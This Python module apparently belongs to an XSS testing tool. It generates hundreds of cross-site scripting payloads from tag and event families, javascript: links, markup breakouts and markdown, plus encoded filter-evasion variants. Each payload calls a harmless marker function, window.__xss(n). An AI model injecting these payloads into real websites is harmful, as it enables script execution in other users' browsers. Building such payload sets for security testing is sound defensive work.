"""Things people type to make a script run in somebody else's browser.

`PAYLOADS[n]` calls `window.__xss(n)` where a page lets it run. Each is at most 180 characters, so that it fits a name
or a title as well as a post. They are made in families, always in the same order.
"""

from urllib.parse import quote

from .addresses import OTHER_PLACES_OF_AN_ADDRESS, PLACES_OF_AN_ADDRESS, SCHEMES, SHORT_SCHEMES
from .markdown import MARKDOWN
from .markup import BREAKOUTS, EVENTS_ALONE, NESTS, WAYS_TO_WRITE_AN_EVENT

LONGEST = 180
CALL = "@"  # stands for the call in the patterns below
HARMLESS_AT = "\ue000"  # stands for a real @ in them
RUNNERS = ["<svg onload=@>", "<img src=x onerror=@>", "<script>@</script>", "<a href=javascript:@>x</a>"]


def _patterns():
    for tag, events in EVENTS_ALONE.items():
        for event in events:
            for way in WAYS_TO_WRITE_AN_EVENT:
                yield way.format(tag=tag, event=event, call=CALL)
    for place in PLACES_OF_AN_ADDRESS:
        for scheme in SCHEMES:
            yield place.replace("{}", scheme)
    for place in OTHER_PLACES_OF_AN_ADDRESS:
        for scheme in SHORT_SCHEMES:
            yield place.replace("{}", scheme)
    yield from BREAKOUTS
    yield from NESTS
    yield from MARKDOWN


def _disguised(call):
    """A tag that runs `call`, as other alphabets and codings write it."""
    numbers = "".join(f"&#{ord(letter)};" for letter in call)
    hexadecimal = "".join(f"&#x{ord(letter):x};" for letter in call)
    unicode = "".join(f"\\u{ord(letter):04x}" if letter.isalpha() else letter for letter in call)
    for disguise in (numbers, hexadecimal, unicode):
        yield f"<svg onload={disguise}>"
        yield f'<img src=x onerror="{disguise}">'
        yield f'<a href="javascript:{disguise}">x</a>'
        yield f"[x](javascript:{disguise})"
    for runner in RUNNERS:
        whole = runner.replace(CALL, call)
        yield quote(whole)
        yield quote(quote(whole))
        yield whole.replace("<", "&lt;").replace(">", "&gt;")
        yield whole.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
        yield whole.replace("<", "\\u003c").replace(">", "\\u003e")
        yield whole.replace("<", "\\x3c").replace(">", "\\x3e")
        yield whole.replace("<", "+ADw-").replace(">", "+AD4-")
        yield whole.replace("<", "\ufe64").replace(">", "\ufe65") + whole
        yield f'"{whole}"'
        yield f"x {whole} y"
        yield f"{whole}\n{whole}"
        yield runner.upper().replace(CALL, call)
        yield whole.replace("<", "<\n")
        yield whole.replace(" ", "/")
        yield whole + "<!--"


def _made():
    payloads, seen = [], set()

    def add(text):
        text = text.replace(HARMLESS_AT, "@")
        if len(text) <= LONGEST:
            payloads.append(text)

    for pattern in _patterns():
        if pattern not in seen:
            seen.add(pattern)
            add(pattern.replace(CALL, f"window.__xss({len(payloads)})"))
    for which in range(len(list(_disguised("x")))):
        add(list(_disguised(f"window.__xss({len(payloads)})"))[which])
    return payloads


PAYLOADS = _made()
